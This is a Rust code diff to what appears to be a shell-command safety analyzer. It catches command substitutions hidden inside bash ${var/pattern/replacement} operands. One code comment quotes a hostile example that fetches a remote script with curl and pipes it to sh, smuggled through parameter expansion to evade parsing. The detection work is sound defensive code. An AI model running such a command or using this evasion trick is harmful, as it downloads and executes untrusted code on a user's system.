@@ -146,6 +146,23 @@ impl Walker {
         quoted: bool,
         acc: &mut Acc,
     ) {
+        // A substitution in an operand that the grammar split elsewhere than bash does
+        // (`${y/`curl https://x/y | sh`/z}`: cut at the URL's first `/`, the backquote left as
+        // text; attack 32 F17) is walked from the operand's own text.
+        // Only `/` and `//` split their operand: a leaf elsewhere is scanned where it sits.
+        let raw = src.raw(node);
+        let inner = raw.strip_prefix("${").unwrap_or(raw);
+        let inner = inner.strip_suffix('}').unwrap_or(inner);
+        let after_name = inner.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
+        if after_name.starts_with('/')
+            && super::super::walk::hides_subst(after_name)
+            && !holds_subst(node)
+        {
+            let operands = after_name.to_owned();
+            if self.scan_text(src, node, &operands) {
+                acc.dynamic = true;
+            }
+        }
         let mut prefix: Option<String> = None;
         let mut name: Option<String> = None;
         let mut index: Option<String> = None;
@@ -279,4 +296,17 @@ impl Walker {
             }
         }
     }
+}
+
+/// Whether the grammar found a substitution anywhere under `node`.
+fn holds_subst(node: Node) -> bool {
+    let mut c = node.walk();
+    let mut stack = vec![node];
+    while let Some(n) = stack.pop() {
+        if matches!(n.kind(), "command_substitution" | "process_substitution") {
+            return true;
+        }
+        stack.extend(n.named_children(&mut c));
+    }
+    false
 }
